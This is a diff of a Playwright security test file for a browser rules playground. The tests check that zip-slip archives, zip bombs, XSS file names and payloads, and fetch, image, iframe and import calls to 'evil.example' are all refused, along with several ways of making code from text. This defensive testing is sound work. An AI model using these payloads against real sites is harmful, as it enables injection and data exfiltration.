@@ -9,7 +9,7 @@ import {
   beAtWork,
   editorOf,
   openKeeping,
-  preferCode,
+  sharedPage,
   workshopThreads,
   writtenIn,
 } from "../support.ts";
@@ -19,6 +19,15 @@ const path = "rules/own/game.regel";
 /** A link as somebody might make it by hand, with any name and any files. */
 async function linkTo(name: string, files: readonly (readonly [string, string])[]) {
   return `#v1?rules=x&work=${await packing.pack(JSON.stringify({ name, files }))}`;
+}
+
+/**
+ * Opens the workshop by a link. But for the first, each is followed on the page that shows the one
+ * before, with its threads at work.
+ */
+async function follow(page: Page, link: string): Promise<void> {
+  if (page.url().startsWith("about:")) await page.goto(`/en/playground/own/${link}`);
+  else await page.evaluate((link) => location.assign(link), link);
 }
 
 /** The page goes on: what is typed stands in the editor. */
@@ -43,10 +52,7 @@ for (let part = 0; part < parts; part++) {
     });
     for (const [at, { name, text }] of some.entries()) {
       await test.step(name, async () => {
-        const link = await linkTo(name, [[path, text]]);
-        if (at === 0) await page.goto(`/en/playground/own/${link}`);
-        // The others are followed on the page that shows the one before, with its threads at work.
-        else await page.evaluate((link) => location.assign(link), link);
+        await follow(page, await linkTo(name, [[path, text]]));
         await expect(page.getByRole("dialog")).toContainText("game.regel");
         if (at === 0) expect(await workshopThreads(page)).toBe(0);
         await page.getByRole("button", { name: "Open as a copy" }).click();
@@ -77,9 +83,8 @@ test("names in links are text, and one line", async ({ page }) => {
     "__proto__",
     "x".repeat(5000),
   ];
-  for (const name of names) {
-    await page.goto("about:blank");
-    await page.goto(`/en/playground/own/${await linkTo(name, [[path, "game {"]])}`);
+  for (const [at, name] of names.entries()) {
+    await follow(page, await linkTo(name, [[path, `game { // ${at}`]]));
     const title = page.getByRole("dialog").locator("h2");
     await expect(title).toContainText("Look at");
     expect((await title.textContent())?.length).toBeLessThan(100);
@@ -108,10 +113,13 @@ test("links that hold something else are refused in a sentence", async ({ page }
     ["#work=../../secret", ""],
     ["#work=00000000", "not, or no longer"],
   ];
+  const said = page.locator(".keeper").getByRole("alert");
   for (const [hash, sentence] of links) {
-    await page.goto("about:blank");
-    await page.goto(`/en/playground/own/${hash}`);
-    if (sentence !== "") await expect(page.getByRole("alert").first()).toContainText(sentence);
+    // Otherwise what was said about the link before would stand for this one.
+    if (!page.url().startsWith("about:")) await follow(page, "#new");
+    await expect(said).toHaveCount(0);
+    await follow(page, hash);
+    if (sentence !== "") await expect(said).toContainText(sentence);
     await expect(page.getByRole("dialog")).toHaveCount(0);
     await expect(editorOf(page)).toBeVisible();
   }
@@ -124,95 +132,14 @@ test("a refused link leaves one's own work alone", async ({ page }) => {
   await stillWrites(page, "// mine");
   await expect(page.locator(".head [role=status]")).toHaveText("Saved in this browser");
   await page.goto("about:blank");
-  await page.goto(`/en/playground/own/${await linkTo("other", [[path, "// theirs"]])}`);
+  await follow(page, await linkTo("other", [[path, "// theirs"]]));
   await page.getByRole("button", { name: "Do not open" }).click();
   await expect.poll(() => writtenIn(page)).toContain("// mine");
-  await page.goto("about:blank");
-  await page.goto(`/en/playground/own/${await linkTo("other", [[path, "// theirs"]])}`);
+  await follow(page, await linkTo("another", [[path, "// theirs"]]));
   await page.getByRole("button", { name: "Open as a copy" }).click();
   await expect.poll(() => writtenIn(page)).toContain("// theirs");
   await page.goto("/en/playground/");
   await expect(page.locator(".works li")).toHaveCount(2);
-});
-
-test("files that mean harm are left out with a reason", async ({ page }) => {
-  const seen = watch(page);
-  await page.goto("/en/playground/own/#new");
-  await openKeeping(page, "Keep");
-  const input = page.locator(".exchange input[type=file]").first();
-  const archive = (tree: Parameters<typeof zipSync>[0]) => Buffer.from(zipSync(tree, { level: 9 }));
-  const many = Object.fromEntries(
-    Array.from({ length: 12 }, (_, n) => [`${n}.regel`, new Uint8Array(480_000)]),
-  );
-  const cases: readonly (readonly [string, Buffer, string])[] = [
-    ["slip.zip", archive({ "../../x.regel": strToU8("game x") }), "outside of its folder"],
-    ["root.zip", archive({ "/etc/x.regel": strToU8("game x") }), "outside of its folder"],
-    [
-      "page.zip",
-      archive({ "index.html": strToU8("<script>alert(1)</script>") }),
-      "no file of rules",
-    ],
-    ["bomb.zip", archive({ "a.regel": new Uint8Array(60_000_000) }), "too large"],
-    ["many.zip", archive(many), "more than rules need"],
-    ["torn.zip", Buffer.from("PK\u0003\u0004 and nothing else"), "cannot be read"],
-    ["large.regel", Buffer.alloc(10_000_000, "a"), "too large"],
-    ["bytes.regel", Buffer.from([0, 255, 254, 0]), "no readable text"],
-    ["<img src=x onerror=alert(1)>.txt", Buffer.from("x"), "no file of rules"],
-  ];
-  for (const [name, buffer, sentence] of cases) {
-    await input.setInputFiles({ name, mimeType: "application/octet-stream", buffer });
-    await expect(page.locator(".exchange [role=status]")).toContainText(sentence);
-  }
-  await stillWrites(page, "// still");
-  expect(seen).toEqual([]);
-});
-
-test("the page itself can run and fetch nothing else", async ({ page }) => {
-  await page.goto("/en/playground/own/#new");
-  await expect(editorOf(page)).toBeVisible();
-  const outcome = await page.evaluate(async () => {
-    const violations: string[] = [];
-    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
-      violations.push(effectiveDirective),
-    );
-    const tried: string[] = [];
-    const attempt = async (name: string, work: () => unknown) => {
-      try {
-        await work();
-        tried.push(name);
-      } catch {
-        // It was refused, as it should be.
-      }
-    };
-    // What a test evaluates may evaluate; what the page does later may not.
-    await new Promise((resolve) => setTimeout(resolve));
-    await attempt("eval", () => Reflect.get(globalThis, "eval")("1"));
-    await attempt("Function", () => new Function("return 1")());
-    await attempt("fetch", () => fetch("https://evil.example/"));
-    const script = document.createElement("script");
-    script.textContent = "globalThis.ran = true";
-    document.head.append(script);
-    const handler = document.createElement("div");
-    handler.setAttribute("onclick", "globalThis.ran = true");
-    document.body.append(handler);
-    handler.click();
-    const image = new Image();
-    image.src = "https://evil.example/x.png";
-    document.body.insertAdjacentHTML("beforeend", "<iframe src='https://evil.example/'></iframe>");
-    await new Promise((resolve) => setTimeout(resolve, 500));
-    return { tried, violations, ran: Reflect.get(globalThis, "ran") };
-  });
-
-  expect(outcome.tried).toEqual([]);
-  expect(outcome.ran).toBeUndefined();
-  for (const directive of [
-    "script-src-elem",
-    "script-src-attr",
-    "connect-src",
-    "img-src",
-    "frame-src",
-  ])
-    expect(outcome.violations).toContain(directive);
 });
 
 test("a thread that comes to no end is stopped, and the editor goes on", async ({ page }) => {
@@ -248,78 +175,158 @@ test("a thread that comes to no end is stopped, and the editor goes on", async (
   await expect(page.locator(".decision h2")).toBeVisible();
 });
 
-test("threads that run rules have only what is allowed, whatever the browser offers", async ({
-  page,
-}) => {
-  await preferCode(page);
-  await page.goto("/en/playground/burgundy/#gallery=watchtowerFive");
-  await expect(page.locator(".head .name")).toHaveText("Watchtowers count 5");
-  await expect.poll(() => page.workers().length).toBeGreaterThan(1);
-  for (const thread of page.workers()) await expectClosed(thread);
-});
+test.describe("on one page, with its threads at work", () => {
+  const shared = sharedPage(async (page) => {
+    await beAtWork(page);
+    await page.goto("/en/playground/own/#new");
+    await expect.poll(() => page.workers().length).toBeGreaterThan(1);
+  });
 
-test("programs from text load nothing, by whatever they are made", async ({ page }) => {
-  await beAtWork(page);
-  await page.goto("/en/playground/own/#new");
-  await expect.poll(() => page.workers().length).toBeGreaterThan(1);
-  for (const thread of page.workers()) {
-    const made = await thread.evaluate(async () => {
-      // The word itself may not stand in what a test evaluates here, either.
-      const body = `return ${["im", "port"].join("")}("data:text/javascript,1")`;
-      const asynchronous = Object.getPrototypeOf(async () => {}).constructor;
-      const generator = Object.getPrototypeOf(function* () {}).constructor;
-      const twice = { toString: () => (twice.asked++ > 0 ? body : "1"), asked: 0 };
-      const ways: Readonly<Record<string, () => unknown>> = {
-        Function: () => new Function(body)(),
-        call: () => Function(body)(),
-        constructor: () => (() => {}).constructor(body)(),
-        async: () => asynchronous(body)(),
-        generator: () => generator(body)().next(),
-        parent: () => Object.getPrototypeOf(asynchronous)(body)(),
-        subclass: () => new (class extends Function {})(body)(),
-        construct: () => Reflect.construct(Function, [body])(),
-        eval: () => Reflect.get(globalThis, "eval")(body.replace("return ", "")),
-        parameter: () => new Function(`a = ${body.replace("return ", "")}`, "")(),
-        twice: () => new Function(twice as unknown as string)()?.then(),
-        timer: () => Reflect.apply(setTimeout, undefined, [body.replace("return ", "")]),
-      };
-      const open: string[] = [];
-      for (const [name, way] of Object.entries(ways)) {
+  test("programs from text load nothing, by whatever they are made", async () => {
+    const page = shared();
+    expect(page.workers().length).toBeGreaterThan(1);
+    for (const thread of page.workers()) {
+      const made = await thread.evaluate(async () => {
+        // The word itself may not stand in what a test evaluates here, either.
+        const body = `return ${["im", "port"].join("")}("data:text/javascript,1")`;
+        const asynchronous = Object.getPrototypeOf(async () => {}).constructor;
+        const generator = Object.getPrototypeOf(function* () {}).constructor;
+        const twice = { toString: () => (twice.asked++ > 0 ? body : "1"), asked: 0 };
+        const ways: Readonly<Record<string, () => unknown>> = {
+          Function: () => new Function(body)(),
+          call: () => Function(body)(),
+          constructor: () => (() => {}).constructor(body)(),
+          async: () => asynchronous(body)(),
+          generator: () => generator(body)().next(),
+          parent: () => Object.getPrototypeOf(asynchronous)(body)(),
+          subclass: () => new (class extends Function {})(body)(),
+          construct: () => Reflect.construct(Function, [body])(),
+          eval: () => Reflect.get(globalThis, "eval")(body.replace("return ", "")),
+          parameter: () => new Function(`a = ${body.replace("return ", "")}`, "")(),
+          twice: () => new Function(twice as unknown as string)()?.then(),
+          timer: () => Reflect.apply(setTimeout, undefined, [body.replace("return ", "")]),
+        };
+        const open: string[] = [];
+        for (const [name, way] of Object.entries(ways)) {
+          try {
+            if ((await way()) !== undefined) open.push(name);
+          } catch {
+            // It was refused, as it should be.
+          }
+        }
+        return { open, evaluates: new Function("return 2")() };
+      });
+      expect(made, thread.url()).toEqual({ open: [], evaluates: 2 });
+    }
+  });
+
+  test("threads that run rules have only what is allowed, whatever the browser offers", async () => {
+    const page = shared();
+    expect(page.workers().length).toBeGreaterThan(1);
+    for (const thread of page.workers()) await expectClosed(thread);
+  });
+
+  test("files that mean harm are left out with a reason", async () => {
+    const page = shared();
+    const seen = watch(page);
+    await openKeeping(page, "Keep");
+    const input = page.locator(".exchange input[type=file]").first();
+    const archive = (tree: Parameters<typeof zipSync>[0]) =>
+      Buffer.from(zipSync(tree, { level: 9 }));
+    const many = Object.fromEntries(
+      Array.from({ length: 12 }, (_, n) => [`${n}.regel`, new Uint8Array(480_000)]),
+    );
+    const cases: readonly (readonly [string, Buffer, string])[] = [
+      ["slip.zip", archive({ "../../x.regel": strToU8("game x") }), "outside of its folder"],
+      ["root.zip", archive({ "/etc/x.regel": strToU8("game x") }), "outside of its folder"],
+      [
+        "page.zip",
+        archive({ "index.html": strToU8("<script>alert(1)</script>") }),
+        "no file of rules",
+      ],
+      ["bomb.zip", archive({ "a.regel": new Uint8Array(60_000_000) }), "too large"],
+      ["many.zip", archive(many), "more than rules need"],
+      ["torn.zip", Buffer.from("PK\u0003\u0004 and nothing else"), "cannot be read"],
+      ["large.regel", Buffer.alloc(10_000_000, "a"), "too large"],
+      ["bytes.regel", Buffer.from([0, 255, 254, 0]), "no readable text"],
+      ["<img src=x onerror=alert(1)>.txt", Buffer.from("x"), "no file of rules"],
+    ];
+    for (const [name, buffer, sentence] of cases) {
+      await input.setInputFiles({ name, mimeType: "application/octet-stream", buffer });
+      await expect(page.locator(".exchange [role=status]")).toContainText(sentence);
+    }
+    await stillWrites(page, "// still");
+    expect(seen).toEqual([]);
+  });
+
+  test("a thread's own response forbids scripts from elsewhere, also to what is not locked", async () => {
+    const page = shared();
+    const address = page.workers()[0]?.url() ?? "";
+    // A script without the lock, under the headers of the thread's.
+    await page.route(address, async (route) => {
+      const response = await route.fetch();
+      const body = `Promise.allSettled([import("data:text/javascript,1"), import("https://evil.example/x.js")])
+        .then((all) => postMessage(all.map(({ status }) => status)));`;
+      await route.fulfill({ response, body });
+    });
+    const loaded = await page.evaluate(
+      (address) =>
+        new Promise((resolve) => {
+          const thread = new Worker(address, { type: "module" });
+          thread.onmessage = ({ data }) => resolve(data);
+        }),
+      address,
+    );
+    expect(loaded).toEqual(["rejected", "rejected"]);
+  });
+
+  test("the page itself can run and fetch nothing else", async () => {
+    const page = shared();
+    const outcome = await page.evaluate(async () => {
+      const violations: string[] = [];
+      document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) =>
+        violations.push(effectiveDirective),
+      );
+      const tried: string[] = [];
+      const attempt = async (name: string, work: () => unknown) => {
         try {
-          if ((await way()) !== undefined) open.push(name);
+          await work();
+          tried.push(name);
         } catch {
           // It was refused, as it should be.
         }
-      }
-      return { open, evaluates: new Function("return 2")() };
+      };
+      // What a test evaluates may evaluate; what the page does later may not.
+      await new Promise((resolve) => setTimeout(resolve));
+      await attempt("eval", () => Reflect.get(globalThis, "eval")("1"));
+      await attempt("Function", () => new Function("return 1")());
+      await attempt("fetch", () => fetch("https://evil.example/"));
+      const script = document.createElement("script");
+      script.textContent = "globalThis.ran = true";
+      document.head.append(script);
+      const handler = document.createElement("div");
+      handler.setAttribute("onclick", "globalThis.ran = true");
+      document.body.append(handler);
+      handler.click();
+      const image = new Image();
+      image.src = "https://evil.example/x.png";
+      document.body.insertAdjacentHTML(
+        "beforeend",
+        "<iframe src='https://evil.example/'></iframe>",
+      );
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return { tried, violations, ran: Reflect.get(globalThis, "ran") };
     });
-    expect(made, thread.url()).toEqual({ open: [], evaluates: 2 });
-  }
-});
 
-test("a thread's own response forbids scripts from elsewhere, also to what is not locked", async ({
-  page,
-}) => {
-  const addresses: string[] = [];
-  page.on("worker", (thread) => addresses.push(thread.url()));
-  await beAtWork(page);
-  await page.goto("/en/playground/own/#new");
-  await expect.poll(() => addresses.length).toBeGreaterThan(1);
-  const [address = ""] = addresses;
-  // A script without the lock, under the headers of the thread's.
-  await page.route(address, async (route) => {
-    const response = await route.fetch();
-    const body = `Promise.allSettled([import("data:text/javascript,1"), import("https://evil.example/x.js")])
-      .then((all) => postMessage(all.map(({ status }) => status)));`;
-    await route.fulfill({ response, body });
+    expect(outcome.tried).toEqual([]);
+    expect(outcome.ran).toBeUndefined();
+    for (const directive of [
+      "script-src-elem",
+      "script-src-attr",
+      "connect-src",
+      "img-src",
+      "frame-src",
+    ])
+      expect(outcome.violations).toContain(directive);
   });
-  const loaded = await page.evaluate(
-    (address) =>
-      new Promise((resolve) => {
-        const thread = new Worker(address, { type: "module" });
-        thread.onmessage = ({ data }) => resolve(data);
-      }),
-    address,
-  );
-  expect(loaded).toEqual(["rejected", "rejected"]);
 });
